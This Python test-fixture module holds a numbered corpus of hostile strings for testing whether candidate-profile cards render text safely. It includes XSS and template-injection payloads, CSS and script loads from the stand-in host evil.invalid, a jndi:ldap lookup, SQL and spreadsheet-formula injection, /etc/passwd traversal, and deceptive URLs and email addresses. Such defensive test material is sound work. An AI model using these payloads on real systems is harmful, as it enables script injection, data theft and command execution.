"""Hostile and merely odd texts for every test that asks whether data stays data.

All payloads are ours.  ``§`` in a listing below stands for one JavaScript assignment that sets
:data:`FLAG` on ``window`` to the payload's number, so a page that was fooled names the culprit.
Payloads that ask for something over the network use names that never resolve (RFC 2606).
"""

from __future__ import annotations

import json
from copy import deepcopy
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any, Final

from candidate_cards import Shortlist, parse_shortlist

if TYPE_CHECKING:
    from collections.abc import Mapping, Sequence

FLAG: Final = "__pwned"
"""Global variable of a page that no payload may ever set."""


@dataclass(frozen=True, slots=True)
class Payload:
    """One text to put where a candidate's text goes.

    Attributes:
        group: What it attacks, or ``ordinary`` for text that real people have.
        number: Its place in the corpus, from 1; the value that a fooled page finds in ``FLAG``.
        text: The text itself; may hold lone surrogates and control characters.
    """

    group: str
    number: int
    text: str

    @property
    def id(self) -> str:
        """A short name for test ids and messages."""
        return f"{self.group}-{self.number}"

    def __repr__(self) -> str:
        return self.id


_MARKUP: Final = (
    "<script>§</script>",
    "<script>§;alert('here')</script>",
    "<SCRIPT\n>§</SCRIPT\t>",
    "<script src=https://evil.invalid/a.js></script>",
    "<script type=module>§</script>",
    "<script>/*</script><script>*/§</script>",
    "<script/x>§</script/y>",
    "<img src=x onerror=§>",
    "<img/src='x'/onerror='§'>",
    '<IMG SRC=x ONERROR="§">',
    "<img src=https://evil.invalid/pixel.gif width=1 height=1>",
    "<img srcset='https://evil.invalid/1x.png 1x'>",
    "<image src=x onerror=§>",
    "<body onload=§>",
    "<body onpageshow=§><p>rest",
    "<input autofocus onfocus=§>",
    "<button autofocus onfocus=§ popovertarget=p>Hire</button>",
    "<select autofocus onfocus=§><option>1</select>",
    "<textarea autofocus onfocus=§></textarea>",
    "<details open ontoggle=§><summary>CV</summary></details>",
    "<video autoplay src=x onerror=§></video>",
    "<video><source onerror=§></video>",
    "<audio src=https://evil.invalid/a.ogg onloadstart=§></audio>",
    "<marquee onstart=§>moving</marquee>",
    "<a href=javascript:§>my profile</a>",
    "<a href='java\tscript:§' onmouseover=§>hover me</a>",
    "<div onpointerenter=§ style='position:fixed;inset:0'>cover</div>",
    "<p onfocusin=§ tabindex=0 contenteditable>type</p>",
    "<iframe src=javascript:§></iframe>",
    "<object data=javascript:§></object>",
    "<embed src=https://evil.invalid/e.swf>",
    "<link rel=stylesheet href=https://evil.invalid/s.css>",
    "<link rel=preload as=image href=https://evil.invalid/p.png>",
    "<dialog open onbeforetoggle=§><form method=dialog>x</form></dialog>",
    "<custom-tag onclick=§ autofocus tabindex=1>press",
    "<div onanimationstart=§ style=animation:x>spin",
    "<x onclick=§ style=display:block;font-size:90px>all of it",
    "<isindex action=javascript:§ type=image>",
)

_BROKEN: Final = (
    "<<script>§//<</script>",
    "<scr<script>ipt>§</scr</script>ipt>",
    "<b><i></b></i><u>",
    "</div></div></div></div></section></article>",
    "</p></li></ul></h2></a>moved out",
    "<div",
    "<div class=",
    "<a href='https://evil.invalid/",
    '<a href="',
    "a < b > c & d <e",
    "<>< ></><!><?><%>",
    "<img src=x onerror=§ <b>",
    "<img\x0csrc=x\x0conerror=§>",
    "<img src=x onerror\n=\n§ \n>",
    "<table><tr><td><img src=x onerror=§></table>",
    "<select><template><img src=x onerror=§></template></select>",
    "<form><div></form><form id=f><input name=action>",
    "&lt;script&gt;§&lt;/script&gt;",
    "&amp;lt;img src=x onerror=§&amp;gt;",
    "&#60;img src=x onerror=§&#62;",
    "&#x3c;img src=x onerror=§&#x3E",
    "&ltscript&gt§&lt/script&gt",
    "&NewLine;&Tab;&colon;&lpar;&rpar;&nbsp;&zwnj;",
    "&#0;&#1;&#128;&#xD800;&#x110000;&#xfffffffff;",
    "&copy &notit; &amp &unknown; &#;",
    "\uff1cscript\uff1e§\uff1c/script\uff1e",
    "\u2039script\u203a§\u2039/script\u203a",
    "+ADw-script+AD4-§+ADw-/script+AD4-",
    "%3Cscript%3E§%3C/script%3E",
    "\\u003cscript\\u003e§\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=§\\x3e",
)

_ATTRIBUTE: Final = (
    '" onmouseover="§" x="',
    "' onmouseover='§' x='",
    "` onmouseover=`§` x=`",
    '"><img src=x onerror=§>',
    "'><img src=x onerror=§>",
    "`><img src=x onerror=§>",
    '" autofocus tabindex=0 onfocus=§ "',
    "' autofocus tabindex=0 onfocus=§ '",
    " onfocus=§ autofocus tabindex=0 ",
    '\\"><img src=x onerror=§>',
    "\\' onclick='§",
    "&quot; onclick=&quot;§",
    "&#34;&#62;&#60;img src=x onerror=§&#62;",
    "&apos;&gt;&lt;img src=x onerror=§&gt;",
    '" style="position:fixed;inset:0;background:url(https://evil.invalid/c)',
    '" class="cc-card" id="body" slot="x',
    '" href="javascript:§',
    '" role="alert" aria-live="assertive',
    '" dir="rtl" lang="',
    '" hidden inert data-x="',
    '"/onclick=§/"',
    "\u201d onclick=\u201d§",
    "\u02ba onclick=\u02ba§",
    "\uff02 onclick=\uff02§ \uff07",
    "=\"'`<>&=",
    "\"\"\" ''' ```",
    '" xlink:href="javascript:§" x="',
    '"\n onclick\n=\n"§',
    '" srcdoc="<script>parent.§</script>',
)

_CSS: Final = (
    "red;background:url(https://evil.invalid/b.png)",
    "red}*{display:none}",
    "};@import 'https://evil.invalid/i.css';",
    "@import url(//evil.invalid/i2.css);",
    "expression(§)",
    "behavior:url(#default#time2)",
    "-moz-binding:url(https://evil.invalid/x.xml#b)",
    "';background-image:url(//evil.invalid/q);content:'",
    '";background-image:url(//evil.invalid/qq);content:"',
    "O'Brien;background:url(//evil.invalid/o);",
    "\\27;background:url(//evil.invalid/esc);\\22",
    "/* comment */ } body{visibility:hidden} /*",
    "*/ } * { color: transparent !important } /*",
    "width:expression(§);x:y",
    "url('javascript:§')",
    "url(data:image/svg+xml,<svg onload=§>)",
    "var(--cc-text);position:fixed",
    "@font-face{font-family:x;src:url(https://evil.invalid/f.woff)}",
    "@media all{*{font-size:90px!important}}",
    "</style><img src=x onerror=§>",
    "<style>*{background:url(https://evil.invalid/s)!important}</style>",
    "<style>@import'https://evil.invalid/at.css'</style>",
    "input[value^=a]{background:url(https://evil.invalid/leak)}",
    "100%;position:fixed;z-index:99999",
)

_TEMPLATE: Final = (
    "{{ 7*191 }}",
    "{{7*191}} and {{ 7 * 191 }}",
    "{{{ 7*191 }}}",
    "{{{{ 7*191 }}}}",
    "{{constructor.constructor('§')()}}",
    '{{ constructor.constructor("§")() }}',
    "{{{constructor.constructor('§')()}}}",
    "{{$on.constructor('§')()}}",
    "{{$eval.constructor('§')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };§//');}}",
    "{{[].pop.constructor('§')()}}",
    "{{toString.constructor('§')()}}",
    "{{(_=''.sub).call.call({}.valueOf.constructor('§'))}}",
    "{{_openBlock.constructor('§')()}}",
    "{{_createElementVNode.constructor('§')()}}",
    "{{ $el.ownerDocument.defaultView.§ }}",
    "{{ $nextTick.constructor('§')() }}",
    "{{ [window.§] }}",
    "{{ self.§ }}",
    "{{ (() => { § })() }}",
    "{{ $data.constructor.constructor('§')() }}",
    "{{ alert('template') }}",
    "<div ng-app ng-init=\"constructor.constructor('§')()\">x</div>",
    "<div ng-csp ng-click=$event.view.§ ng-focus=§ tabindex=0 autofocus>x</div>",
    "<div v-html=\"'<img src=x onerror=§>'\" v-on:click=§>x</div>",
    '<div v-scope="{x:[].at.constructor(\'§\')()}" @vue:mounted="§">x</div>',
    '<div x-data x-init="§" @click="§">x</div>',
    "<div x-html=\"'<img src=x onerror=§>'\">x</div>",
    "[[ 7*191 ]]",
    "[[[ 7*191 ]]]",
    "[[constructor.constructor('§')()]]",
    "[[_openBlock.constructor('§')()]]",
    "${ 7*191 }",
    "$${ 7*191 }}",
    "${constructor.constructor('§')()}",
    "${_openBlock.constructor('§')()}",
    "{% raw %}{{ 7*191 }}{% endraw %}",
    "{%% include 'x' %%} {%- set a = 1 -%}",
    "{# comment #} {{# each }} {{/ each }}",
    "<%= 7*191 %> <% § %>",
    "&lt;%= constructor.constructor('§')() %&gt;",
    "#{ 7*191 } #{constructor.constructor('§')()}",
    "*|FNAME|* *|IF:X|* *|END:IF|*",
    "%%first_name%% %%=v(@x)=%%",
    "%(name)s {name} {0} {0.__class__} %s %d",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "@{ 7*191 } @(7*191) ~~name~~ [% name %] [-NAME-] ||name||",
    "{ {7*191} } { { 7*191 } }",
    "{\u200b{7*191}\u200b}",
    "{<!-- -->{constructor.constructor('§')()}}",
    "{<!---->{7*191}<!---->}",
    "&#123;&#123;constructor.constructor('§')()&#125;&#125;",
    "&lbrace;&lbrace;7*191&rbrace;&rbrace;",
    "}} {{constructor.constructor('§')()}} {{",
    "{{",
    "}}",
    "{",
    "{{\n constructor\n.constructor('§')()\n}}",
)

_BIDI: Final = (
    "\u202eesrever",
    "safe \u202egnp.exe",
    "\u202d forced left \u202e forced right",
    "\u202a embedded",
    "\u202b embedded right",
    "\u2067 isolate right never closed",
    "\u2066 isolate left never closed",
    "\u2068 first strong never closed",
    "\u202e" * 200 + "stacked",
    "\u2067\u202e" * 70 + "mixed stack",
    "\u2069\u2069\u2069 pops isolates that it never opened \u202e",
    "\u202c\u202c\u202c pops embeddings \u202e",
    "\u2069\u202c\u2069\u202c\u2067\u202eall at once",
    "a\u202eb\u202cc\u2067d\u2069e",
    "\u200fright-to-left mark \u200eand left\u061c and Arabic",
    "\u202e\n\u202e second paragraph",
    "\u202e\u2029\u2028\u202e separators",
    "\u202etpircs<>\"'",
    "\u05d0\u05d1\u05d2 (abc) 123 \u05d3!",
    "abc \u0627\u0644\u0639\u0631\u0628\u064a\u0629 123-456 \u202e9 8 7",
    "\u2066" * 130 + "deeper than the algorithm allows",
    "\u206a\u206b\u206c\u206d\u206e\u206f deprecated format controls",
    "100\u202e%\u202c \u202e001",
    "\u202e",
)

_INVISIBLE: Final = (
    "\u200b",
    "\u200b\u200c\u200d\u2060\ufeff",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "<\u200bscript>§</script>",
    "\ufeff<script>§</script>",
    "java\u200bscript:§",
    "soft\u00adhy\u00adphens",
    "\u115f\u1160\u3164\uffa0 fillers",
    "\u180e\u2800\u00a0\u3000",
    "\U000e0041\U000e0042\U000e007f tag characters",
    "\u2061\u2062\u2063\u2064 invisible operators",
    "\ufe0f\ufe0e\U000e0100 variation selectors",
    "   ",
    "\t\n\r\n ",
    "\u2028\u2029",
    "a" + "\u200d" * 500 + "b",
)

_MARKS: Final = (
    "".join(letter + "\u0301" * 60 for letter in "tower"),
    "".join(letter + "\u0310\u0321\u035c\u0489" * 40 for letter in "zalgo"),
    "\u0301 leading mark",
    "\u0489" * 400,
    "a" + "\u20dd\u20e0" * 50,
    "<script>\u0338§</script\u0338>",
    "e\u0301 and \u00e9 are the same name",
    "\u1112\u1161\u11ab\u1100\u1173\u11af decomposed Hangul",
    "\u0e01" + "\u0e33\u0e48" * 80,
    "\U0001f468" + "\u200d\U0001f468" * 200,
    "\u0915\u094d" * 300,
    '"\u0301 onclick=\u0301§',
)

_CONTROL: Final = (
    "nul\x00nul",
    "<scr\x00ipt>§</scr\x00ipt>",
    "\x00",
    "".join(map(chr, range(32))),
    "".join(map(chr, range(0x7F, 0xA0))),
    "<img\x00src=x\x0bonerror\x1c=\x1f§>",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "back\x08\x08space \x7f",
    "lone high \ud800 end",
    "lone low \udfff end",
    "\udc00\ud800 wrong order",
    "\ud83d torn emoji \ude00",
    "\ud800<script>§</script>",
    "\ufffe\uffff\ufdd0\ufdef\U0001ffff\U0010ffff",
    "\U0010fffd\ue000 private use \uf8ff",
    "\ufff9anchor\ufffaruby\ufffb \ufffc \ufffd",
    "line\u0085next\u2028sep\u2029par\x0bvt\x0cff",
    "\r\n\r\nSet-Cookie: a=b\r\n\r\n<script>§</script>",
    "\x1a\x04\x1c\x1d\x1e\x1f",
    "\x9b31m \x90\x9c \x85",
)

_LONG: Final = (
    "a" * 100_000,
    "W" * 5_000,
    "<" * 20_000,
    "&" * 20_000,
    "&amp;" * 8_000,
    "<b>" * 5_000 + "deep",
    "\u5b57" * 30_000,
    "\U0001f600" * 10_000,
    "word " * 20_000,
    "{{" * 10_000,
    "\u05d0" * 20_000,
    "x" * 30_000 + "<img src=x onerror=§>",
    "https://www.linkedin.com/in/" + "p" * 10_000,
    "\n" * 20_000 + "below",
)

_ORDINARY: Final = (
    "Zo\u00eb O\u2019Connor-D\u2019Angelo",
    "Nguy\u1ec5n Th\u1ecb Minh Khai",
    "Bj\u00f6rk \u00der\u00e1insd\u00f3ttir",
    "\u0141ukasz \u017b\u00f3\u0142\u0107 \u2013 M\u00fcller & S\u00f6hne",
    "\u674e\u660e (\u30ea\u30fb\u30df\u30f3)",
    "\uae40\ubbfc\uc900 \u2014 \uc11c\uc6b8",
    "\u05e0\u05d5\u05e2\u05d4 \u05dc\u05d5\u05d9",
    "\u0641\u0627\u0637\u0645\u0629 \u0627\u0644\u0632\u0647\u0631\u0627\u0621",
    "\u0905\u0930\u094d\u091c\u0941\u0928 \u0936\u0930\u094d\u092e\u093e",
    "\u0e2a\u0e21\u0e0a\u0e32\u0e22 \u0e43\u0e08\u0e14\u0e35",
    "\u0394\u03ad\u03c3\u03c0\u03bf\u03b9\u03bd\u03b1 \u0391\u03bd\u03b1\u03b3\u03bd\u03ce",
    "\u0413\u0430\u043b\u0438\u043d\u0430 \u0429\u0435\u0440\u0431\u0430\u043a\u043e\u0432\u0430",
    "Ana \U0001f469\u200d\U0001f4bb\U0001f3fd lead dev \U0001f1e7\U0001f1f7",
    "C++ / C# / F# & <T extends Comparable<? super T>>",
    "R&D, M&A; P&L > 5 M\u20ac",
    "if (a < b && c > d) { return; }",
    'He said "ship it" \u2013 and we did; 100 %',
    "p < 0.05, \u00b11.5\u03c3, \u2264 3 ms \u2192 \u221e",
    "$5M ARR -> $12M; 40% YoY",
    "50/50 \\ backslash \\n not a newline",
    "AT&T; Marks & Spencer; Johnson&Johnson&co",
    "null",
    "None",
    "undefined",
    "NaN",
    "true",
    "[object Object]",
    "0",
    "-",
    "N/A",
    "Null, Christopher",
    "tel:+420 123 456 789",
    "a@b.example <ada@example.test>",
    "\u2605\u2605\u2605\u2605\u2606 4,5/5",
    "\u00bd cup \u2116 5 \u2122 \u00ae \u00a9",
    "\ufb01nancial o\ufb03ce",
    "\u01c5 \u0130stanbul \u0131\u015f\u0131k \u1e9e\u00df",
    "f\u00f6\u00f6.b\u00e4r@example.test",
    "\U0001d4d0\U0001d4ed\U0001d4ea \U0001d557\U0001d552\U0001d55f\U0001d554\U0001d56a",
    "1\ufe0f\u20e3 first \u2764\ufe0f\u200d\U0001f525",
)

_DATA: Final = (
    '{"name": "Ada", "matchScore": 100}',
    '"}],"candidates":[{"profileId":"x","name":"<b>"}]}',
    "\\u0022\\u005d\\u007d",
    "'; DROP TABLE candidates; --",
    '=HYPERLINK("https://evil.invalid","open")',
    "+1+1",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    'a,"b""c",d;e\tf',
    "</script><script>§</script>",
    '{"__proto__":{"admin":true}}',
    "constructor",
    "__proto__",
    "toString",
    "hasOwnProperty",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "$(id) `id` && id | id",
    "${jndi:ldap://evil.invalid/a}",
    "%n%n%n%s%s",
    "1e999",
    "0x1F",
    "\u0661\u0662\u0663",
)

_COMMENT: Final = (
    "<!--",
    "-->",
    "--!>",
    "<!-->",
    "<!--->",
    "<!-- --><img src=x onerror=§>",
    "--><img src=x onerror=§><!--",
    "--!><img src=x onerror=§>",
    "<!-- x --!><img src=x onerror=§> -->",
    "<!--[if gte IE 4]><script>§</script><![endif]-->",
    "<!--[if mso]><img src=https://evil.invalid/mso.png><![endif]-->",
    "<![endif]--><img src=x onerror=§>",
    "<![CDATA[<img src=x onerror=§>]]>",
    "]]><img src=x onerror=§>",
    "<!DOCTYPE html><html><body onload=§>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<?xml version='1.0'?><?xml-stylesheet href='https://evil.invalid/x.xsl'?>",
    "<?php echo 1 ?><img src=x onerror=§>",
    "<!--<script>--><img src=x onerror=§>",
    "</!-- ><img src=x onerror=§>",
)

_CLOSING: Final = (
    "</template>",
    "</template><script>§</script>",
    "</template></div><img src=x onerror=§>",
    "</TEMPLATE\n><img src=x onerror=§>",
    "<template shadowrootmode=open><img src=x onerror=§></template>",
    "<template><script>§</script></template>",
    "</style>",
    "</style ><script>§</script>",
    "</STYLE/><img src=x onerror=§>",
    "</title><script>§</script>",
    "</textarea><img src=x onerror=§>",
    "</body></html><script>§</script>",
    "</head><body onload=§>",
    "</svg><script>§</script>",
    "</math><img src=x onerror=§>",
    "</bdi></bdi></bdi><b>out",
    "<slot></slot><slot name=x>",
    "<div slot=x>projected</div>",
    "</span></div></article></template></div><h1>Taken over</h1>",
    "<plaintext>",
    "<xmp></xmp><img src=x onerror=§>",
    "<noembed></noembed><noframes>",
)

_MUTATION: Final = (
    '<noscript><p title="</noscript><img src=x onerror=§>">',
    "</noscript><img src=x onerror=§>",
    "<noscript><style></noscript><img src=x onerror=§>",
    "<math><mtext><table><mglyph><style><img src=x onerror=§>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>",
    '<svg></p><style><a title="</style><img src=x onerror=§>">',
    "<svg><style><img/src=x/onerror=§></style>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=§></style>",
    "<listing>&lt;img src=x onerror=§&gt;</listing>",
    "<p title='--><img src=x onerror=§>'><!--",
    "<textarea><p id='</textarea><img src=x onerror=§>'>",
    "<option><style></option></select><img src=x onerror=§></style>",
    "<img alt='`><img src=x onerror=§>'>",
    "&lt;img title='&lt;/noscript&gt;' onerror=§&gt;",
    "<a><table><a><img src=x onerror=§>",
)

_FOREIGN: Final = (
    "<svg onload=§>",
    "<svg/onload=§//",
    "<svg><script>§</script></svg>",
    "<svg><script href=https://evil.invalid/s.js /></svg>",
    "<svg><animate onbegin=§ attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:§ /><a><text y=20>go</text></a></svg>",
    "<svg><a xlink:href=javascript:§><circle r=90 /></a></svg>",
    "<svg><use href='https://evil.invalid/u.svg#x'/></svg>",
    "<svg><image href=https://evil.invalid/i.png /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.§</script>'></foreignObject></svg>",
    "<svg><desc><img src=x onerror=§></desc></svg>",
    "<svg><feImage href=https://evil.invalid/fe.png /></svg>",
    "<math href=javascript:§>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:§>x</maction></math>",
    "<svg viewBox='0 0 1 1' style='position:fixed;width:100vw;height:100vh'><rect/></svg>",
)

_DOCUMENT: Final = (
    "<iframe srcdoc='<script>parent.§</script>'></iframe>",
    '<iframe srcdoc="&lt;script&gt;parent.§&lt;/script&gt;"></iframe>',
    "<iframe src=https://evil.invalid/frame></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<meta http-equiv=refresh content='0;url=javascript:§'>",
    "<meta charset=utf-7>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta name=color-scheme content=light><meta name=viewport content=width=9>",
    "<base href=https://evil.invalid/>",
    "<base target=_top>",
    "<form action=javascript:§><button>Open profile</button></form>",
    "<form action=https://evil.invalid/><input type=image src=https://evil.invalid/b.png></form>",
    "<button formaction=javascript:§ autofocus>Go</button>",
    "<form id=f></form><input form=f name=attributes><input form=f name=submit>",
    "<a id=document name=body href=#>clobber</a><img name=cookie>",
    "<applet code=x codebase=https://evil.invalid/></applet>",
    "<frameset onload=§><frame src=javascript:§></frameset>",
    "<portal src=https://evil.invalid/></portal>",
    "<link rel=import href=https://evil.invalid/i.html>",
    "<html manifest=https://evil.invalid/m><head><title>New title</title>",
    '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.invalid/"]}]}</script>',
    '<script type=importmap>{"imports":{"x":"https://evil.invalid/x.js"}}</script>',
)

_GROUPS: Final = {
    "markup": _MARKUP,
    "broken": _BROKEN,
    "attribute": _ATTRIBUTE,
    "css": _CSS,
    "template": _TEMPLATE,
    "bidi": _BIDI,
    "invisible": _INVISIBLE,
    "marks": _MARKS,
    "control": _CONTROL,
    "long": _LONG,
    "ordinary": _ORDINARY,
    "data": _DATA,
    "comment": _COMMENT,
    "closing": _CLOSING,
    "mutation": _MUTATION,
    "foreign": _FOREIGN,
    "document": _DOCUMENT,
}


def _numbered() -> tuple[Payload, ...]:
    listed = [(group, text) for group, texts in _GROUPS.items() for text in texts]
    return tuple(
        Payload(group, number, text.replace("§", f"window.{FLAG}={number}"))
        for number, (group, text) in enumerate(listed, start=1)
    )


PAYLOADS: Final[tuple[Payload, ...]] = _numbered()
"""Every payload, in a constant order."""


def payloads(*groups: str) -> tuple[Payload, ...]:
    """The payloads of some groups, in corpus order.

    Raises:
        KeyError: A group does not exist.
    """
    for group in groups:
        _GROUPS[group]
    return tuple(payload for payload in PAYLOADS if payload.group in groups)


SHORT_PAYLOADS: Final[tuple[Payload, ...]] = tuple(
    payload for payload in PAYLOADS if payload.group != "long"
)
"""All but the very long ones, for tests that put many on one page."""

BAD_URLS: Final[tuple[str, ...]] = (
    # schemes that run or load, and their disguises
    f"javascript:window.{FLAG}=9001",
    f"JavaScript:window.{FLAG}=9002",
    f"jAvAsCrIpT://www.linkedin.com/%0awindow.{FLAG}=9003",
    f"javascript://www.linkedin.com/in/ada?%0Awindow.{FLAG}=9004",
    f"java\tscript:window.{FLAG}=9005",
    f"java\nscript:window.{FLAG}=9006",
    f"java\r\nscript:window.{FLAG}=9007",
    f"\x01javascript:window.{FLAG}=9008",
    f" \t javascript:window.{FLAG}=9009",
    f"java\x00script:window.{FLAG}=9010",
    f"javascript\x09:window.{FLAG}=9011",
    f"javascript&colon;window.{FLAG}=9012",
    f"javascript&#58;window.{FLAG}=9013",
    f"java&Tab;script&colon;window.{FLAG}=9014",
    f"&#106;avascript:window.{FLAG}=9015",
    f"javascript%3Awindow.{FLAG}=9016",
    f"%6aavascript:window.{FLAG}=9017",
    f"java\u200bscript:window.{FLAG}=9018",
    f"\ufeffjavascript:window.{FLAG}=9019",
    f"javascript\uff1awindow.{FLAG}=9020",
    f"vbscript:window.{FLAG}=9021",
    f"livescript:window.{FLAG}=9022",
    f"data:text/html,<script>opener.{FLAG}=9023</script>",
    "data:text/html;base64,PHA+aGk8L3A+",
    "DATA:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>",
    "file:///etc/passwd",
    "file://www.linkedin.com/in/ada",
    "blob:https://www.linkedin.com/0f1e2d3c",
    "filesystem:https://www.linkedin.com/temporary/x",
    f"view-source:javascript:window.{FLAG}=9030",
    "about:blank",
    "ftp://www.linkedin.com/in/ada",
    "ws://www.linkedin.com/in/ada",
    "intent://www.linkedin.com/in/ada#Intent;end",
    "linkedin://in/ada",
    f"feed:javascript:window.{FLAG}=9036",
    # not https, or no scheme at all
    "http://www.linkedin.com/in/ada",
    "//www.linkedin.com/in/ada",
    "//evil.invalid/in/ada",
    "///www.linkedin.com/in/ada",
    "https:www.linkedin.com/in/ada",
    "https:/www.linkedin.com/in/ada",
    "https:///www.linkedin.com/in/ada",
    "https:\\\\www.linkedin.com\\in\\ada",
    "https:/\\www.linkedin.com/in/ada",
    "https://",
    "https://?",
    "/in/ada",
    "#top",
    "?next=https://www.linkedin.com/",
    # user information, ports, odd hosts
    "https://ada@www.linkedin.com/in/ada",
    "https://ada:secret@www.linkedin.com/in/ada",
    "https://www.linkedin.com@evil.invalid/in/ada",
    "https://www.linkedin.com%40evil.invalid/in/ada",
    "https://www.linkedin.com:443@evil.invalid/",
    "https://www.linkedin.com\\@evil.invalid/in/ada",
    "https://evil.invalid\\@www.linkedin.com/in/ada",
    "https://evil.invalid#@www.linkedin.com/in/ada",
    "https://evil.invalid?@www.linkedin.com/in/ada",
    "https://[::1]/in/ada",
    "https://[::ffff:127.0.0.1]/in/ada",
    "https://[www.linkedin.com]/in/ada",
    "https://127.0.0.1/in/ada",
    "https://0x7f000001/in/ada",
    "https://2130706433/in/ada",
    "https://www.linkedin.com:99999/in/ada",
    "https://www.linkedin.com:javascript/in/ada",
    # hosts that only look right
    "https://evil.invalid/www.linkedin.com/in/ada",
    "https://linkedin.com.evil.invalid/in/ada",
    "https://www.linkedin.com.evil.invalid/in/ada",
    "https://wwwlinkedin.com/in/ada",
    "https://notlinkedin.com/in/ada",
    "https://evil-linkedin.com/in/ada",
    "https://linkedin.com-profile.invalid/in/ada",
    "https://linkedin.co/in/ada",
    "https://linkedin.org/in/ada",
    "https://www.linkedin.com.../in/ada",
    "https://www..linkedin.com/in/ada",
    "https://.linkedin.com/in/ada",
    "https://www.l\u0456nkedin.com/in/ada",
    "https://www.linked\u0131n.com/in/ada",
    "https://xn--lnkedin-1ld.com/in/ada",
    "https://www.linkedin.com\u3002evil.invalid/in/ada",
    "https://www.linkedin.com\uff0fin\uff0fada",
    "https://www.linkedin.com\u2044evil.invalid/in/ada",
    "https://evil.invalid\uff0f.linkedin.com/in/ada",
    "https://www\u3002linkedin\u3002com.evil.invalid/",
    "https://www.linkedin.com%2eevil.invalid/in/ada",
    "https://www.linkedin.com%00.evil.invalid/in/ada",
    "https://www.linkedin.com\x00.evil.invalid/in/ada",
    "https://www.linkedin.com\t.evil.invalid/in/ada",
    "https://www.linkedin.com\n.evil.invalid/in/ada",
    "https://www.linkedin.com .evil.invalid/in/ada",
    "https://-.linkedin.com:/in/ada@evil.invalid:80:90/",
    # the right host, and something no address may hold
    "https://www.linkedin.com./in/ada",
    "https://www.linkedin.com:8443/in/ada",
    "https://www.linkedin.com:/in/ada",
    "https://www.linkedin.com/in/a da",
    "https://www.linkedin.com/in/a\\..\\ada",
    "see https://www.linkedin.com/in/ada for more",
    "ada",
    "https",
    ":",
    "://",
)
"""Texts for a URL field that must never become a link."""

REPAIRABLE_URLS: Final[tuple[str, ...]] = (
    'https://www.linkedin.com/in/ada"onclick="window.x',
    "https://www.linkedin.com/in/ada'onclick='window.x",
    "https://www.linkedin.com/in/<img/src=x/onerror=window.x>",
    "https://www.linkedin.com/in/a\tda",
    "https://www.linkedin.com/in/a\nda",
    "https://www.linkedin.com/in/ada\x7f",
    "https://www.linkedin.com/in/ada\ud800",
    "https://www.linkedin.com/in/ada\u202e",
    "https://www.linkedin.com\u202e/in/ada",
    "https://www.linkedin.com/in/{{7*191}}`",
    "https://www.linkedin.com/in/%zz%",
)
"""The right host and a wrong rest: text, or a link from which the wrong part is gone or encoded."""

GOOD_URLS: Final[tuple[str, ...]] = (
    "https://www.linkedin.com/in/example-ada",
    "https://linkedin.com/in/example-ada",
    "https://www.linkedin.com/in/example-ada/",
    "https://cz.linkedin.com/in/example-ada",
    "https://sk.linkedin.com/in/example-ada",
    "https://uk.linkedin.com/in/example-ada/",
    "https://br.linkedin.com/in/example-ada",
    "https://m.linkedin.com/in/example-ada",
    "https://de.linkedin.com/pub/example-ada/1/2a3/b45",
    "https://www.linkedin.com/in/example-ada?trk=people-guest",
    "https://www.linkedin.com/in/example-ada?a=1&b=2",
    "https://www.linkedin.com/in/example-ada#experience",
    "https://www.linkedin.com/in/jos%C3%A9-example",
    "https://www.linkedin.com/in/%D7%A0%D7%95%D7%A2%D7%94-example",
    "https://www.linkedin.com/in/jos\u00e9-example",
    "https://www.linkedin.com/in/\u05e0\u05d5\u05e2\u05d4-\u05dc\u05d5\u05d9",
    "https://il.linkedin.com/in/\u0641\u0627\u0637\u0645\u0629",
    "https://cn.linkedin.com/in/\u674e\u660e",
    "https://WWW.LinkedIn.COM/in/Example-Ada",
    "https://www.linkedin.com/company/example-acme",
    "https://www.linkedin.com/in/o%27brien-example",
)
"""Profile addresses as people have them; each must become a link."""

HOSTILE_EMAILS: Final[tuple[str, ...]] = (
    "ada@example.test?bcc=eve@evil.invalid",
    "ada@example.test?subject=hired&body=sign%20here",
    "ada%40example.test%3Fbcc=eve@evil.invalid",
    "ada@example.test,eve@evil.invalid",
    "ada@example.test;eve@evil.invalid",
    "ada@example.test%0d%0abcc:eve@evil.invalid",
    "ada@example.test\r\nbcc:eve@evil.invalid",
    "ada@example.test\x00.evil.invalid",
    "mailto:ada@example.test",
    f"javascript:window.{FLAG}=9101//@example.test",
    f"data:text/html,<script>{FLAG}=9102</script>@example.test",
    "https://evil.invalid/@example.test",
    '"><img src=x onerror=alert(1)>@example.test',
    '"ada<script>"@example.test',
    "Ada Example <ada@example.test>",
    "ada@[127.0.0.1]",
    "ada@ex\u0430mple.test",
    "\u202etset.elpmaxe@ada",
    "ada@example.test#fragment",
    "ada@@example.test",
    "@example.test",
    "ada@",
    "{{7*191}}@example.test",
    "ada@example.test/../x",
    "ada @example.test",
)
"""Texts for an address field; whatever becomes a link may only write to ``example.test``."""

Field = tuple[str | int, ...]
"""Keys and indexes that lead to one text of a candidate, as on the wire."""

TEXT_FIELDS: Final[tuple[Field, ...]] = (
    ("name",),
    ("currentRole",),
    ("currentCompany",),
    ("headline",),
    ("location",),
    ("rationale",),
    ("skills", 1),
    ("aiFitPoints", 1),
    ("aiRedFlags", 1),
    ("aiDetailedRationale", 0, "title"),
    ("aiDetailedRationale", 0, "company"),
    ("aiDetailedRationale", 0, "duration"),
    ("aiDetailedRationale", 0, "relevanceExplanation"),
    ("detailedExperience", 0, "role"),
    ("detailedExperience", 0, "company"),
    ("detailedExperience", 0, "duration"),
    ("detailedExperience", 0, "highlights", 1),
)
"""Free text that a card shows somewhere."""

